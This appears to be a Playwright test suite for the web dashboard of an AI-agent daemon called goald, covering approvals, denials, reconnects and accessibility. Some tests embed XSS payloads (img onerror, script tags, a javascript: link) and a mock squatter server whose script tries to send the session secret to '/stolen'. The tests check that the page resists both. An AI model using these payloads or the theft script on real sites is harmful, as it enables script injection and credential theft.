/** A real Chromium looks at the page of a real daemon: what a person does there is in the agents' logs. */
import { readFile, writeFile } from "node:fs/promises";
import { afterAll, beforeAll, describe, expect, it } from "@jest/globals";
import axe from "axe-core";
import {
  type Browser,
  type BrowserContextOptions,
  chromium,
  type Page,
  type Request,
  type Route,
} from "playwright-core";
import type { CommandCall } from "#core/call.ts";
import type { RecordedEvent } from "#core/event.ts";
import { type DaemonHome, makeDaemonHome } from "../helpers/daemon-home.ts";
import { lookInto } from "../helpers/goald.ts";
import { listenOnLoopback } from "../helpers/loopback.ts";
import { append, highestTask, nameIn, replyWith, startAgent, subagentModel, write } from "../helpers/models.ts";
import type { Answer, ChatRequest } from "../helpers/openai-server.ts";

const LONG = Array.from({ length: 200 }, (_, line) => `Line ${line} of the plan`).join("\n");
const HOSTILE = `# <img src=x onerror="hacked=1">\n\n<script>hacked=1</script> [a](javascript:hacked=1) ![b](https://x.example/p.png)\n`;
const ask = (question: string): CommandCall => ({ name: "ask_user", args: { question } });
const SCRIPTS: Readonly<Record<string, readonly CommandCall[]>> = {
  Writer: [write("plan.md", `${LONG}\n`), append("more\n", "plan.md")],
  Denied: [write("a.md", `${LONG}\n`), append("b\n", "b.md")],
  One: [append("if x:\n    pay(1)\n", "one.py")],
  Two: [append("2\n", "two.py")],
  Limited: [write("a.md", "1\n"), write("b.md", "2\n")],
  Long: Array.from({ length: 130 }, (_, number) => append(`${number}\n`, "long.md")),
  Asker: [ask("Which <b>week</b>?"), append("The week is known.\n", "notes.md")],
  Boss: [startAgent("Aide")],
  Hostile: [
    write("<img src=x onerror=hacked=1>.md", HOSTILE),
    write("data.csv", "a,n\n<script>,1\n"),
    write("report.md", "1\n"),
    write("report.md", HOSTILE),
  ],
};

const LATER = { Aide: [ask("Room?")], Halted: [ask("Why?")], Idle: Array(2).fill({ name: "do_nothing", args: {} }) };
const ODD: Record<string, Answer> = { Mute: "No.", Down: { fault: "close" }, Nest: "```python\nagent.run('x')\n```" };
const SILENCE = new Promise<string>(() => {});

let home: DaemonHome;
let browser: Browser;
beforeAll(async () => {
  const follow = subagentModel({ ...SCRIPTS, ...LATER });
  const isNested = (request: ChatRequest): boolean => JSON.stringify(request).includes("part of a larger task");
  const reply = (request: ChatRequest) => (isNested(request) ? SILENCE : (ODD[nameIn(request)] ?? follow(request)));
  home = await makeDaemonHome([], { reply });
  for (const name of Object.keys(SCRIPTS)) {
    // The older request stands above the younger one.
    const older: Record<string, readonly string[]> = { One: ["writer", "denied"], Two: ["one"] };
    for (const agent of older[name] ?? []) await home.logged("approval-asked", 1, agent);
    const approve = ["Writer", "Denied", "One", "Two"].includes(name) ? "always" : "never";
    const limit = name === "Limited" || name === "Long" ? ["--max-steps", "1"] : [];
    await home.goald.print(["run", "-d", "--name", name, "--role", "r", "-g", "Work", "--approve", approve, ...limit]);
  }
  for (const agent of ["writer", "denied", "two"]) await home.logged("approval-asked", 1, agent);
  await home.logged("agent-started", 1, "boss");
  for (const agent of ["asker", "boss-aide"]) await home.logged("command-waiting", 1, agent);
  await home.logged("turn-finished", 1, "hostile");
  for (const agent of ["limited", "long"]) await home.logged("agent-paused", 1, agent);
  browser = await chromium.launch({ executablePath: "/usr/bin/chromium", args: ["--no-sandbox"] });
}, 120_000);
afterAll(() => browser?.close());

async function visit(page: Page, hash: string, seen: string): Promise<void> {
  await page.goto(new URL(hash, page.url()).href);
  await page.locator(seen).first().waitFor();
}

/** Opens a page with Home on it, or with what `given`, an address, shows. */
async function openPage(options: BrowserContextOptions = {}, given?: string) {
  const url = given ?? (await home.goald.json<{ url: string }>("dashboard")).url;
  const context = await browser.newContext({ viewport: { width: 390, height: 844 }, ...options });
  const page = await context.newPage();
  const [origins, faults] = [new Set<string>(), [] as string[]];
  page.on("request", (request) => origins.add(new URL(request.url()).origin));
  page.on("pageerror", (error) => faults.push(String(error)));
  await page.goto(url);
  if (!given) await page.locator(".row").first().waitFor();
  const go = (hash: string, seen: string): Promise<void> => visit(page, hash, seen);
  /** `origins`: those that the page asked for anything. */
  return { page, url, origins, faults, go, [Symbol.asyncDispose]: () => context.close() };
}

/** Opens a further tab, with a session of its own. */
async function openTab({ page: first }: { page: Page }, hash: string, seen: string): Promise<Page> {
  const page = await first.context().newPage();
  const { url } = await home.goald.json<{ url: string }>("dashboard");
  await page.goto(url);
  await page.locator(".row").first().waitFor();
  await visit(page, hash, seen);
  return page;
}

/** Hides or shows a tab: every tab of a browser without a screen counts as shown. */
async function turn(page: Page, isHidden: boolean): Promise<void> {
  await page.evaluate(`Object.defineProperty(document, "hidden", { get: () => ${isHidden}, configurable: true })`);
  await page.evaluate(`document.dispatchEvent(new Event("visibilitychange", { bubbles: true }))`);
}

const isStream = (request: Request): boolean => /changes|live=true/.test(request.url());
const AGES = /\b\d+ (?:s|min)\b/g;
const rowsOf = async (page: Page): Promise<readonly string[]> =>
  (await page.locator(".step-row").allInnerTexts()).map((text) => text.replaceAll(AGES, ""));
const logOf = async (agent: string): Promise<readonly RecordedEvent[]> => (await lookInto(home.goald, agent)).log;

describe("the page in Chromium", () => {
  it("signs in once with a ticket, which leaves the address, and asks no other origin", async () => {
    await using opened = await openPage();
    await opened.page.getByRole("heading", { name: "Needs you" }).waitFor();
    expect(new URL(opened.page.url()).hash).toBe("#/");
    await using second = await openPage({}, opened.url);
    await second.page.getByText("goald dashboard --open").waitFor();
    expect([...opened.origins]).toEqual([new URL(opened.url).origin]);
    expect(opened.faults).toEqual([]);
  });

  it("approves only after the whole command was on the screen", async () => {
    await using opened = await openPage();
    await opened.go("#/a/writer/approve", ".diff");
    const approve = opened.page.getByRole("button", { name: "Approve" });
    expect(await approve.isDisabled()).toBe(true);
    await opened.page.mouse.wheel(0, 100_000);
    await opened.page.getByText("Line 199").waitFor();
    expect(await approve.isDisabled()).toBe(true);
    // The button goes back to the first part that was not on the screen.
    await opened.page.getByRole("button", { name: "More below" }).click();
    while (await approve.isDisabled()) await opened.page.mouse.wheel(0, 300);
    // No key in the number of further commands approves.
    await opened.page.getByRole("spinbutton").press("Enter");
    expect(await approve.isDisabled()).toBe(false);
    await approve.click();
    await home.until(async () => (await logOf("writer")).some(isApproval), "an approval by a person");
  });

  it("shows the diff anew when a person makes or edits the file", async () => {
    await using opened = await openPage();
    await opened.go("#/a/denied/approve", ".diff");
    await opened.page.getByText("new file", { exact: true }).waitFor();
    await home.goald.write("workspace/denied/a.md", "Another text\n");
    await opened.page.getByText("made against sha256").waitFor();
    await opened.page.getByText("Another text").waitFor();
    const asked: Route[] = [];
    await opened.page.route("**/v1/waiting", (route) => void asked.push(route));
    await opened.page.waitForTimeout(2_500);
    expect(asked).toHaveLength(1);
  });

  it("refuses an approval of a diff that is no longer true, and shows the new one", async () => {
    await using opened = await openPage({ viewport: { width: 1_280, height: 9_000 } });
    const { page } = opened;
    await opened.go("#/a/denied/approve", ".diff");
    const approve = page.getByRole("button", { name: "Approve" });
    await approve.click({ trial: true });
    // The page does not hear of the change before the button is pressed.
    await page.route("**/v1/waiting", (route) => route.abort());
    await home.goald.write("workspace/denied/a.md", "The third text\n");
    await approve.click();
    await page.getByRole("alert").getByText("The file has changed since this diff was shown.").waitFor();
    await page.unroute("**/v1/waiting");
    await page.getByText("The third text").waitFor();
    await page.getByRole("alert").waitFor();
    expect((await logOf("denied")).filter(isApproval)).toEqual([]);
  });

  it("takes no second click for the command that has come where the first was", async () => {
    await using opened = await openPage({ viewport: { width: 1_280, height: 2_000 } });
    const sent: string[] = [];
    opened.page.on("request", (request) => request.url().endsWith("/approval") && sent.push(request.url()));
    const approve = opened.page.locator(".card", { hasText: "one.py" }).getByRole("button", { name: "Approve" });
    await approve.click({ trial: true });
    const { x, y } = (await approve.boundingBox()) as { readonly x: number; readonly y: number };
    await opened.page.mouse.click(x + 9, y + 9);
    await opened.page.locator(".card", { hasText: "one.py" }).waitFor({ state: "detached" });
    await opened.page.mouse.click(x + 9, y + 9);
    expect(sent).toEqual([expect.stringContaining("/agents/one/")]);
    const next = opened.page.locator(".card", { hasText: "two.py" }).getByRole("button", { name: "Approve" });
    expect((await next.boundingBox())?.y).toBe(y);
    // A card that comes while the button is pressed would take this click too.
    await opened.page.getByText("One wants to finish").waitFor();
    await next.click();
    await opened.page.locator(".card", { hasText: "two.py" }).waitFor({ state: "detached" });
    expect(sent).toHaveLength(2);
  });

  it("denies with words, in which Enter begins a line on a phone, and the agent reads them", async () => {
    await using opened = await openPage({ isMobile: true, hasTouch: true });
    await opened.go("#/a/denied/approve", ".diff");
    await opened.page.getByRole("button", { name: "Deny…" }).click();
    await opened.page.locator("textarea:focus").waitFor();
    await opened.page.keyboard.type("Keep it\nshort.");
    await opened.page.getByRole("button", { name: "Deny", exact: true }).click();
    await home.logged("command-denied", 1, "denied");
    expect((await logOf("denied")).find(({ type }) => type === "command-denied")).toMatchObject({
      by: "person",
      reason: expect.stringContaining("Keep it\nshort."),
    });
  });

  it("pauses an agent, tells it something and resumes it", async () => {
    await using opened = await openPage();
    await opened.go("#/a/denied", ".step-row");
    const press = (name: string): Promise<void> => opened.page.getByRole("button", { name, exact: true }).click();
    await press("Pause");
    await home.logged("agent-paused", 1, "denied");
    // A stop is answered when the step has ended.
    await opened.page.route("**/stop", () => undefined);
    await press("Stop…");
    await press("Stop");
    await opened.page.keyboard.press("Escape");
    await opened.page.getByPlaceholder("Say something to Denied…").fill("Use short lines.");
    await opened.page.locator("button:enabled", { hasText: /^Say$/ }).waitFor();
    await opened.page.keyboard.press("Enter");
    await press("Resume");
    await home.logged("agent-resumed", 1, "denied");
    const hears = async (): Promise<boolean> => JSON.stringify(await logOf("denied")).includes("Use short lines.");
    await home.until(hears, "the words in the log");
  });

  it("sends words whose answer was lost once more, and the agent gets them once", async () => {
    await using opened = await openPage();
    await opened.go("#/a/denied", ".step-row");
    const loseAnswer = (route: Route): Promise<void> => route.fetch().then(() => route.abort());
    await opened.page.route("**/messages", loseAnswer, { times: 2 });
    const field = opened.page.getByPlaceholder("Say something to Denied…");
    const say = opened.page.getByRole("button", { name: "Say", exact: true });
    await field.fill("Only once.");
    await say.click();
    await opened.page.getByRole("alert").getByText("cannot reach goald").waitFor();
    // Another screen leaves the words where they are.
    await opened.go("#/", ".row");
    await opened.go("#/a/denied", ".step-row");
    await say.click();
    await opened.page.getByRole("alert").waitFor();
    await say.click();
    await opened.page.getByRole("alert").waitFor({ state: "detached" });
    const received = async () =>
      (await logOf("denied")).filter((event) => JSON.stringify(event).includes("Only once."));
    await home.until(async () => (await received()).length > 0, "the words in the log");
    // The same words said after an answer are others.
    await field.fill("Only once.");
    await say.click();
    await home.until(async () => (await received()).length > 1, "the same words again");
    expect(await received()).toHaveLength(2);
  });

  it("lets go of its connections while it is hidden, and misses and doubles nothing when it is shown", async () => {
    await using opened = await openPage();
    // A browser has six connections for all pages of a host, and each of these has two streams.
    const open = (): Promise<Page> => openTab(opened, "#/a/denied", ".step-row");
    const first = await open();
    await turn(first, true);
    for (let more = 3; more > 0; more -= 1) await turn(await open(), true);
    const shown = await open();
    await home.goald.print(["say", "denied", "While it was hidden."]);
    await shown.getByText("While it was hidden.").waitFor();
    expect(await first.getByText("While it was hidden.").count()).toBe(0);
    await turn(first, false);
    await first.getByText("While it was hidden.").waitFor();
    await first.locator("button:enabled", { hasText: "Stop…" }).waitFor();
    expect(await rowsOf(first)).toEqual(await rowsOf(shown));
    expect(await first.getByText("While it was hidden.").count()).toBe(1);
  });

  it("says once on Home what happened since the last look, and a reload is no new look", async () => {
    await using opened = await openPage();
    const hourAgo = `localStorage.setItem("goald-seen", JSON.stringify({ at: Date.now() - 3_600_000, agents: {} }))`;
    await opened.page.evaluate(hourAgo);
    const page = await openTab(opened, "#/", ".row");
    const line = page.getByText(/^Since you looked 1 h 0 min ago: \d+ agents? finished/);
    await line.waitFor();
    await visit(page, "#/a/denied", ".step-row");
    for (let reloads = 2; reloads > 0; reloads -= 1) {
      await page.reload();
      await visit(page, "#/", ".row");
    }
    expect(await page.getByText("Since you looked").count()).toBe(0);
    expect(opened.faults).toEqual([]);
    // A look that begins an hour after the last one has a line again, in the same page.
    await turn(page, true);
    await opened.page.evaluate(hourAgo);
    await turn(page, false);
    await line.waitFor();
  });

  it("moves the focus to the heading of a new screen, and back where it was", async () => {
    await using opened = await openPage();
    const { page } = opened;
    const focused = (selector: string): Promise<void> => page.locator(`${selector}:focus`).waitFor();
    const rows = await page.locator("[data-row]").allInnerTexts();
    await page.locator("button:enabled", { hasText: "Resume" }).first().focus();
    await page.keyboard.press("j");
    const stuck = rows.findIndex((row) => row === "Limited" || row === "Long");
    await page.locator("[data-row]:focus", { hasText: String(rows[stuck + 1]) }).waitFor();
    const hostile = 'a[href="#/a/hostile"]';
    await page.locator(hostile).focus();
    await page.keyboard.press("k");
    await page.keyboard.press("j");
    await focused(hostile);
    await page.keyboard.press("Enter");
    await focused(".agent-head h1");
    await page.keyboard.press("Escape");
    await focused(hostile);
    // A key that comes before the new screen was painted acts on that screen.
    const press = `({ target }) => target.dispatchEvent(new KeyboardEvent("keydown", { key: "f", bubbles: true }))`;
    await page.evaluate(`addEventListener("focusin", ${press}, { once: true })`);
    await page.goBack();
    await page.getByRole("link", { name: "report.md" }).focus();
    await page.keyboard.press("Enter");
    await focused("article h1");
    await page.goBack();
    await focused('a[href$="/report.md"]');
    await opened.go("#/a/hostile/s/2", ".opened");
    await focused("#step-2 summary");
    await page.keyboard.press("Enter");
    await page.locator(".opened").waitFor({ state: "detached" });
    await page.locator("header button[title^=Keys]").focus();
    await page.keyboard.press("Enter");
    await focused("dialog *");
    await page.keyboard.press("Escape");
    await focused("header button[title^=Keys]");
    expect(opened.faults).toEqual([]);
  });

  it("makes another agent from a step, and finds in the memory what was written", async () => {
    await using opened = await openPage({ viewport: { width: 1_280, height: 400 } });
    await opened.go("#/a/hostile/s/2", "#step-2 summary:focus");
    expect((await opened.page.locator("#step-2").boundingBox())?.y).toBeLessThan(80);
    await opened.page.getByRole("button", { name: "Fork from here" }).click();
    await opened.page.waitForURL(/hostile-2/);
    expect(await opened.page.getByText("No such agent").count()).toBe(0);
    expect((await logOf("hostile-2")).at(-1)).toMatchObject({ type: "agent-paused" });
    await opened.page.getByRole("searchbox", { name: "Search its memory" }).fill("data.csv");
    await opened.page.keyboard.press("Enter");
    await opened.page.locator(".part", { hasText: "Memory" }).getByText("data.csv").first().waitFor();
    // Agents of one name have their ids on Home.
    await opened.go("#/", "[data-row]");
    await opened.page.locator("[data-row]", { hasText: "(hostile-2)" }).waitFor();
  });

  it("allows more steps after a limit, and the agent goes on", async () => {
    await using opened = await openPage();
    const card = opened.page.locator(".card", { hasText: "Limited has reached its step limit" });
    await card.getByRole("spinbutton", { name: "Add steps" }).fill("7");
    await card.getByRole("button", { name: "Resume" }).click();
    await home.logged("turn-finished", 1, "limited");
    expect(JSON.stringify(await logOf("limited"))).toContain('"stepLimit":8');
  });

  it("shows rare states as they are, with buttons that work", async () => {
    for (const words of ["Mute", "Idle --budget 0.001", "Halted", "Down", "Nest --form code --approve never"])
      await home.goald.print(`run -d -g Work --name ${words}`);
    for (const agent of ["mute", "idle"]) await home.logged("agent-paused", 1, agent);
    await home.logged("model-asked", 2, "nest");
    await home.goald.print("resume idle -d --budget none --approve always");
    await home.goald.print("stop halted");
    await using opened = await openPage({ viewport: { width: 1_280, height: 9_000 } });
    await opened.page.locator(".card", { hasText: "Idle" }).getByRole("button", { name: "Approve" }).click();
    await home.logged("approval-asked", 2, "idle");
    await home.goald.print("resume idle -d --approve never");
    await opened.go("#/a/halted", "[placeholder^='Say something']");
    await opened.page.getByRole("button", { name: "Resume" }).click();
    await home.logged("agent-resumed", 1, "halted");
    await opened.go("#/a/mute/s/3", "#step-3:has([aria-label='no result']) .code:has-text('No.')");
    expect((await rowsOf(opened.page)).filter((text) => text.includes("No command"))).toHaveLength(3);
    await opened.go("#/a/idle", ".step-row:has-text('budget')");
    expect((await rowsOf(opened.page)).filter((text) => text.includes("approved by you"))).toHaveLength(1);
    await opened.go("#/a/down", ".panel:has-text('The next attempt is at')");
    await opened.page.route("**/nest/events?*", (route) => route.fulfill({ status: 500, json: {} }));
    await opened.go("#/a/nest", "#step-1 [aria-label='under way']");
    await opened.page.waitForResponse(/nest\/events/);
    expect(await opened.page.evaluate("sessionStorage.getItem('goald-session')")).not.toBeNull();
  });

  it("keeps nothing of steps that have left the timeline", async () => {
    await using opened = await openPage({ viewport: { width: 1_280, height: 860 } });
    await opened.go("#/a/long", ".step-row");
    // A slow answer is not given up for the next one.
    const failed: string[] = [];
    opened.page.on("requestfailed", (request) => failed.push(request.url()));
    await opened.page.route("**/long/*", (route) => opened.page.waitForTimeout(300).then(() => route.continue()));
    await home.goald.print("resume long --max-steps none -d --approve never");
    // Each wait has its own limit.
    for (const asked of [50, 90, 130]) await home.logged("model-asked", asked, "long");
    await home.logged("turn-finished", 1, "long");
    await opened.page.locator("#step-130").waitFor();
    expect(failed).toEqual([]);
    const session = await opened.page.context().newCDPSession(opened.page);
    await session.send("HeapProfiler.collectGarbage");
    const { nodes } = await session.send("Memory.getDOMCounters");
    // Each row has fifteen nodes. Rows of 130 steps would be 2,000 beside those of the page.
    expect(await opened.page.locator(".step-row").count()).toBeLessThan(70);
    expect(nodes).toBeLessThan(2_300);
    await opened.go("#/a/long/s/1", ".step-row:has-text('Resumed')");
  });

  it("shows a question as text, with one field for the answer, and answers it on Home", async () => {
    await using opened = await openPage();
    const json = { startedAt: "2026-11-20T10:00:00.000Z", problems: ["Memory works offline."] };
    await opened.page.route("**/v1/status", (route) => route.fulfill({ json }));
    await opened.go("#/a/asker/approve", "text=It was answered, or it has expired. See what");
    await opened.go("#/a/asker", ".step-row");
    await opened.page.locator(".card").getByText("Which <b>week</b>?").waitFor();
    expect(await opened.page.getByText("Memory works offline.").count()).toBe(0);
    expect(await opened.page.getByRole("textbox", { name: "Asker" }).count()).toBe(1);
    await opened.go("#/", ".row");
    await opened.page.getByText("Memory works offline.").waitFor();
    await opened.page.locator(".card", { hasText: "Aide helper of boss asks" }).waitFor();
    await opened.page.getByText("Which <b>week</b>?").waitFor();
    const bidi = "getComputedStyle(document.querySelector('.card .kept')).unicodeBidi";
    expect(await opened.page.evaluate(bidi)).toBe("plaintext");
    await opened.page.getByRole("textbox", { name: "Answer Asker" }).fill("The second");
    await opened.page.locator(".card", { hasText: "Asker" }).getByRole("button", { name: "Answer" }).click();
    await home.logged("turn-finished", 1, "asker");
    expect(JSON.stringify(await logOf("asker"))).toContain("The second");
  });

  it("runs nothing of hostile names, reports and tables, and restores a version", async () => {
    // An edit that a restoration dropped belongs to no step.
    await home.goald.write("workspace/hostile/report.md", "Mine\n");
    await home.goald.print("restore hostile report.md --step 5");
    await using opened = await openPage({ viewport: { width: 1_280, height: 860 } });
    await opened.go("#/a/hostile/files/report.md", ".prose");
    await opened.page.getByText("<script>hacked=1</script>").waitFor();
    const json = { content: `${"a".repeat(99)},1\n`.repeat(50_000), encoding: "utf8", bytes: 5_100_000 };
    await opened.page.route("**/files/data.csv", (route) => route.fulfill({ json }));
    await opened.go("#/a/hostile/files/data.csv", "text=The rest is not shown.");
    await opened.go(`#/a/hostile/files/${encodeURIComponent("<img src=x onerror=hacked=1>.md")}`, ".prose");
    expect(await opened.page.evaluate("typeof hacked")).toBe("undefined");
    expect([...opened.origins]).toEqual([new URL(opened.url).origin]);
    await opened.go("#/a/hostile/files/report.md", ".prose");
    await opened.page.getByRole("combobox", { name: "Versions" }).selectOption("step 3");
    await opened.page.getByRole("button", { name: "Restore to step" }).click();
    await opened.page.getByText("is again as it was after step 3").waitFor();
    await opened.page.locator("[value='5']", { hasText: "restored after step 5" }).waitFor({ state: "attached" });
    const versions = await opened.page.getByRole("option").allInnerTexts();
    expect(versions).toEqual(["restored after step 5", "step 4", "step 3"]);
    expect(await home.goald.read("workspace/hostile/report.md")).toBe("1\n");
  });

  it("switches acts off while the daemon is gone, and goes on by itself when it is back, nothing twice", async () => {
    await using opened = await openPage();
    await opened.go("#/a/denied", "button:has-text('Stop…')");
    await opened.page.getByText("you: Use short lines.").waitFor();
    const before = [await rowsOf(opened.page), await logOf("denied")] as const;
    const pid = await home.hostPid();
    process.kill(pid as number, "SIGKILL");
    await opened.page.getByText("no daemon").waitFor();
    for (const name of ["Stop…", "Say"])
      expect(await opened.page.getByRole("button", { name }).isDisabled()).toBe(true);
    await home.goald.print("up");
    await opened.page.getByText("no daemon").waitFor({ state: "detached" });
    expect([await rowsOf(opened.page), await logOf("denied")]).toEqual(before);
    await opened.page.getByPlaceholder("Say something to Denied…").fill("Go on as before.");
    await opened.page.getByRole("button", { name: "Say", exact: true }).click();
    await opened.page.getByText("you: Go on as before.").waitFor();
    const heard = (await logOf("denied")).filter((event) => JSON.stringify(event).includes("Go on as before."));
    expect(heard).toHaveLength(1);
    // The first of two reloads ends while the daemon still owes its proof, and is not late with it: its page has no timers.
    await opened.page.addInitScript("if (!sessionStorage.second) setTimeout = () => 0; sessionStorage.second = true;");
    const owed = Promise.withResolvers<void>();
    const hold = async (): Promise<void> => owed.resolve();
    await opened.page.route("**/session/proof", hold, { times: 1 });
    await opened.page.reload({ waitUntil: "commit" });
    await owed.promise;
    await opened.page.reload();
    await opened.page.getByText("you: Go on as before.").waitFor();
    expect(opened.faults).toEqual([]);
  });

  it("gives its secret and its key to no program in the daemon's place, on whatever screen and after a reload", async () => {
    await using opened = await openPage();
    await opened.go("#/a/hostile", ".agent-head");
    // Until the page knows, its next request and one under way, which Chromium repeats, bear the key of the process that died.
    const asksApi = /\/v1\/(?!changes)/;
    await opened.page.route(asksApi, (route) => route.abort());
    const hasEnded = (request: Request) =>
      isStream(request) || request.failure() !== null || request.timing().responseEnd > 0;
    await home.until(async () => (await opened.page.requests()).every(hasEnded), "answers to all requests");
    const secret = await opened.page.evaluate("sessionStorage.getItem('goald-session')");
    expect(secret).toMatch(/^[\da-f]{64}$/);
    process.kill((await home.hostPid()) as number, "SIGKILL");
    const port = Number(new URL(opened.url).port);
    await home.until(async () => (await fetch(opened.url).catch(() => null)) === null, "a free port");
    const heads: string[] = [];
    const theft = "fetch('/stolen?' + sessionStorage.getItem('goald-session'))";
    await using squatter = await listenOnLoopback(({ url = "", headers }, response) => {
      heads.push(JSON.stringify([url, headers]));
      const isPage = url === "/" || url.endsWith(".ts");
      response.writeHead(isPage ? 200 : 404, { "content-type": url === "/" ? "text/html" : "text/javascript" });
      response.end(url === "/" ? `<script>${theft}</script>` : isPage ? theft : "");
    }, port);
    await home.until(async () => heads.some((head) => head.includes("/session/proof")), "a question to the program");
    await opened.page.getByText("no daemon").waitFor();
    await opened.page.unroute(asksApi);
    await opened.go("#/a/hostile/files/report.md", ".agent-head");
    expect(heads.filter((head) => head.includes(".ts"))).toEqual([]);
    await opened.page.reload();
    await home.until(async () => heads.some((head) => head.includes("/stolen?")), "an attempt of the program");
    await squatter.close();
    expect(heads.filter((head) => head.includes(`${secret}`) || head.includes("authorization"))).toEqual([]);
    await home.goald.print("up");
  });

  it("asks for a new address after `goald restart`, and takes it in the same tab", async () => {
    await using opened = await openPage();
    await home.goald.print("restart");
    await opened.page.getByText("goald dashboard --open").waitFor();
    await using again = await openPage();
    const { url } = await home.goald.json<{ url: string }>("dashboard");
    await again.page.goto(url);
    await again.page.waitForURL(/#\/$/);
    await again.page.locator(".row").first().waitFor();
  });
});

const isApproval = (event: RecordedEvent): boolean => event.type === "command-approved" && event.by === "person";

const SCREENS = [
  ["#/", ".row"],
  ["#/a/denied", ".step-row"],
  ["#/a/denied/s/1", ".opened"],
  ["#/a/denied/approve", ".diff"],
  ["#/a/hostile", "#step-12345"],
  ["#/a/hostile/files/report.md", ".prose"],
  ["#/a/hostile/files/data.csv", ".sheet"],
] as const;
const LOOKS = [390, 1_280].flatMap((width) => (["light", "dark"] as const).map((scheme) => [width, scheme] as const));

describe.each(LOOKS)("at %d pixels in the %s scheme", (width, colorScheme) => {
  it("no screen is wider than the window, and axe-core finds nothing", async () => {
    await using opened = await openPage({ viewport: { width, height: 860 }, colorScheme });
    const found: unknown[] = [];
    await opened.page.route(/hostile\/steps\?/, async (route) => {
      const body = (await (await route.fetch()).text()).replaceAll(/"(step|last)":/g, "$&1234");
      await route.fulfill({ body });
    });
    for (const [hash, seen] of SCREENS) {
      await opened.go(hash, seen);
      await opened.page.evaluate(axe.source);
      const { violations } = (await opened.page.evaluate("axe.run()")) as { violations: readonly { id: string }[] };
      const tooWide = await opened.page.evaluate("document.documentElement.scrollWidth - innerWidth");
      // A long name is cut in the bar, which stays one line.
      const lengthen = "document.querySelector('nav .cut')?.append(' of a house that has a long name'.repeat(2))";
      await opened.page.evaluate(lengthen);
      const tooHigh = await opened.page.evaluate("document.querySelector('.top nav').scrollHeight - 48");
      expect(tooHigh).toBeLessThanOrEqual(0);
      const wide = "[...document.querySelectorAll('.row .num')].filter((cell) => cell.scrollWidth > cell.clientWidth)";
      expect(await opened.page.evaluate(`${wide}.length`)).toBe(0);
      const low = "[...document.querySelectorAll('button, select')].some(({ clientHeight: px }) => px > 0 && px < 42)";
      if (width < 720) expect(await opened.page.evaluate(low)).toBe(false);
      found.push(...violations.map(({ id }) => `${hash} ${id}`), ...(tooWide === 0 ? [] : [`${hash} ${tooWide} px`]));
    }
    expect(found).toEqual([]);
  });

  it("axe-core can fail: a picture without words is found", async () => {
    await using opened = await openPage({ viewport: { width, height: 860 }, colorScheme });
    await opened.page.evaluate("document.querySelector('main').append(document.createElement('img'))");
    await opened.page.evaluate(axe.source);
    const found = await opened.page.evaluate("axe.run().then(({ violations }) => violations.map(({ id }) => id))");
    expect(found).toContain("image-alt");
  });
});

// The pictures of docs/page.md: real agents on the real page. `GOLDEN=write` takes them anew.

const PLAN = (soup: string): string =>
  `# Three dinners under 4 dollars each\n\n| day | dinner | cost |\n|---|---|---|\n| Mon | ${soup} | $2.10 |\n| Tue | bean chili | $2.80 |\n| Wed | tofu noodles | $3.00 |\n`;
const THOUGHTS: Readonly<Record<string, readonly string[]>> = {
  Chef: [
    "Three dinners under 4 dollars: I begin with what is in season.",
    "Lentils cost less than pumpkin now, so I change Monday.",
  ],
  Scout: ["Two weeks are possible, and only a person knows which one."],
};
const CALLS = {
  Chef: [write("plan.md", PLAN("pumpkin soup")), write("plan.md", PLAN("lentil soup"))],
  Scout: [{ name: "ask_user", args: { question: "Which week do you want to travel, Easter week or the week after?" } }],
  Ledger: Array.from({ length: 20 }, (_, day) =>
    append(`2026-03-${day + 10},${(12.5 + day).toFixed(2)}\n`, "spending.csv"),
  ),
} as const;

/** Ledger is thinking in its eighth step for as long as the test lasts. */
async function reply(request: ChatRequest): Promise<string> {
  const name = nameIn(request) as keyof typeof CALLS;
  const task = highestTask(request);
  if (name === "Ledger" && task >= 7) await new Promise(() => {});
  const thought = THOUGHTS[name]?.[task];
  const call = CALLS[name][task];
  return thought && call
    ? replyWith(call, `Task ${task + 1} of ${CALLS[name].length}.`).replace(/"speak":"[^"]*"/, `"speak":"${thought}"`)
    : subagentModel(CALLS)(request);
}

const PICTURES: readonly (readonly [file: string, hash: string, seen: string])[] = [
  ["home", "#/", ".row"],
  ["agent", "#/a/ledger", ".step-row"],
  ["approval", "#/a/chef/approve", ".diff"],
  ["files", "#/a/chef/files/plan.md", ".prose table"],
];

it("the pictures of docs/page.md are of screens that show what the page says of them", async () => {
  await using home = await makeDaemonHome([], { reply });
  const options = ["--role", "a helper in the house", "--budget", "1"];
  const start = (name: string, goal: string, ...more: readonly string[]) =>
    home.goald.print(["run", "-d", "--name", name, "-g", goal, ...options, ...more]);
  await start("Chef", "Plan three dinners in plan.md", "--approve", "always");
  await home.logged("approval-asked", 1, "chef");
  await home.goald.print("approve chef");
  await start("Scout", "Find a night train to Rome");
  await start("Ledger", "Write each day's spending to spending.csv");
  await home.logged("approval-asked", 2, "chef");
  await home.logged("command-waiting", 1, "scout");
  await home.logged("command-finished", 7, "ledger");
  const { url } = await home.goald.json<{ url: string }>("dashboard");
  const page = await browser.newPage({ viewport: { width: 1_100, height: 600 } });
  await page.goto(url);
  const text = await readFile("docs/page.md", "utf8");
  for (const [name, hash, seen] of PICTURES) {
    await visit(page, hash, seen);
    const file = `page-${name}.png`;
    expect(text).toContain(`](${file})`);
    const picture = await page.screenshot({ type: "png" });
    if (process.env.GOLDEN === "write") await writeFile(`docs/${file}`, picture);
    const kept = await readFile(`docs/${file}`);
    // Times differ. The size of the picture is in its header.
    expect(kept.subarray(0, 24)).toEqual(picture.subarray(0, 24));
  }
});
